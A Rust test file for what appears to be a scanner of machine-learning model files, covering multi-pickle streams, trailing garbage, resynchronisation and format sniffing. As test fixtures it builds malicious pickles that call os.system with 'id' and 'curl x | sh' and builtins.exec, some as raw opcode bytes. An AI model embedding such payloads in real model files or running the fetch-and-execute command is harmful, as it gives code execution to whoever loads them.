//! Streams of several pickles, trailing garbage, resynchronisation and sniffing.

use super::*;
use crate::format::Sniff;
use modelvet_testkit::pickle::{self as tk, TensorSpec};

#[test]
fn payload_in_a_second_pickle() {
    let mut bytes = tk::torch_state_dict(&[TensorSpec::f32("w", &[2])]);
    let first_end = bytes.len() as u64;
    bytes.extend_from_slice(&tk::os_system(4, "id"));
    let scan = scan_bytes(&bytes);
    let f = dangerous(&scan);
    assert!(
        matches!(f.location, crate::Location::PickleOp { pickle: 1, offset } if offset > first_end),
        "{:?}",
        f.location
    );
    assert_eq!(with_rule(&scan, "pickle-trailing-data").len(), 1);
    let summary = stream(&bytes, &StreamOptions::default());
    assert_eq!(summary.pickles, 2);
    assert_eq!(summary.end, bytes.len() as u64);
    assert!(summary.globals.contains(&"os.system".to_owned()));
}

#[test]
fn payload_after_trailing_garbage() {
    let mut bytes = tk::numpy_arange_f64(2, 4);
    bytes.extend_from_slice(b"\x00\x01garbage that is not a pickle\xff\xfe");
    bytes.extend_from_slice(&tk::os_system(2, "curl x | sh"));
    let scan = scan_bytes(&bytes);
    assert_eq!(
        dangerous(&scan).evidence.as_deref(),
        Some("os.system('curl x | sh')")
    );
    assert_eq!(with_rule(&scan, "pickle-trailing-data").len(), 1);
    assert!(
        with_rule(&scan, "pickle-malformed").is_empty(),
        "{:#?}",
        scan.findings
    );
}

#[test]
fn error_keeps_earlier_findings_and_resyncs() {
    let mut bytes = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R\xff".to_vec();
    bytes.extend_from_slice(&tk::reduce_payload(3, "builtins", "exec", &["x"]));
    let scan = scan_bytes(&bytes);
    let d = with_rule(&scan, "pickle-dangerous-global");
    assert_eq!(d.len(), 2, "{:#?}", scan.findings);
    assert_eq!(d[0].evidence.as_deref(), Some("os.system('id')"));
    assert_eq!(d[1].evidence.as_deref(), Some("builtins.exec('x')"));
    let m = with_rule(&scan, "pickle-malformed");
    assert_eq!(m.len(), 1);
    assert!(
        m[0].message.contains("at byte 0xff: invalid load key"),
        "{}",
        m[0].message
    );
}

#[test]
fn containers_can_expect_trailing_data() {
    let mut bytes = b"\x80\x02K\x01.\x80\x02K\x02.".to_vec();
    bytes.extend_from_slice(&tk::os_system(2, "id"));
    let options = StreamOptions {
        max_pickles: Some(2),
        trailing_data_expected: true,
        torchscript: false,
    };
    let summary = stream(&bytes, &options);
    assert_eq!(summary.pickles, 2);
    assert_eq!(summary.end, 10);
    assert!(summary.globals.is_empty());
    let all = stream(&bytes, &StreamOptions::default());
    assert_eq!(all.pickles, 3);
}

#[test]
fn frames_are_transparent_for_payloads() {
    // A call split across two frames still resolves.
    let mut bytes = b"\x80\x04".to_vec();
    let part1 = b"\x8c\x02os\x94\x8c\x06system\x94\x93\x94";
    let part2 = b"\x8c\x02id\x94\x85\x94R\x94.";
    bytes.push(0x95);
    bytes.extend_from_slice(&(part1.len() as u64).to_le_bytes());
    bytes.extend_from_slice(part1);
    bytes.push(0x95);
    bytes.extend_from_slice(&(part2.len() as u64).to_le_bytes());
    bytes.extend_from_slice(part2);
    let scan = scan_bytes(&bytes);
    assert_eq!(
        dangerous(&scan).evidence.as_deref(),
        Some("os.system('id')")
    );
}

fn sniff_bytes(head: &[u8], len: u64) -> Option<crate::Format> {
    sniff(&Sniff {
        head,
        tail: head,
        len,
        path: "x",
    })
}

#[test]
fn sniff_recognises_protocol_0_and_1_by_structure() {
    let p0 = tk::os_system(0, "id");
    assert_eq!(
        sniff_bytes(&p0, p0.len() as u64),
        Some(crate::Format::Pickle)
    );
    let p1 = tk::os_system(1, "id");
    assert_eq!(
        sniff_bytes(&p1, p1.len() as u64),
        Some(crate::Format::Pickle)
    );
    let mut p = tk::Pickler::new(0);
    p.empty_dict().memoize().str("a").int(1).setitem();
    let plain = p.finish();
    assert_eq!(
        sniff_bytes(&plain, plain.len() as u64),
        Some(crate::Format::Pickle)
    );
    // A long protocol 1 list cut off by the sniff window.
    let mut p = tk::Pickler::new(1);
    p.empty_list().memoize().mark();
    for i in 0..100 {
        p.int(i);
    }
    let long = p.finish();
    assert_eq!(
        sniff_bytes(&long[..50], 10_000),
        Some(crate::Format::Pickle)
    );
}

#[test]
fn sniff_rejects_text() {
    for text in [
        &b"Hello world\n"[..],
        b"# README\n(see below)\n",
        b"I love this model\n",
        b"{\"a\": 1}\n",
        b"]]]]",
        b"(((((((((((",
        b"License: MIT\nCopyright\n",
        b"cat file\nls\n",
    ] {
        assert_eq!(
            sniff_bytes(text, text.len() as u64),
            None,
            "{:?}",
            String::from_utf8_lossy(text)
        );
    }
}

#[test]
fn sniff_takes_whatever_runs_from_byte_0() {
    // `pickle.loads(b"N.")` is None: whatever runs to STOP is a pickle
    // (this used to need three opcodes).
    assert_eq!(sniff_bytes(b"N.", 2), Some(crate::Format::Pickle));
}

#[test]
fn sniff_protocol_header() {
    assert_eq!(sniff_bytes(b"\x80\x02N.", 4), Some(crate::Format::Pickle));
    assert_eq!(sniff_bytes(b"\x80\x05", 2), Some(crate::Format::Pickle));
    // PROTO 0/1 is legal but must run like a pickle.
    assert_eq!(
        sniff_bytes(b"\x80\x01]q\x00K\x01a.", 9),
        Some(crate::Format::Pickle)
    );
    assert_eq!(sniff_bytes(b"\x80\x01\xff\xfe\x00", 5), None);
    assert_eq!(sniff_bytes(b"\x80\x09N.", 4), None);
}
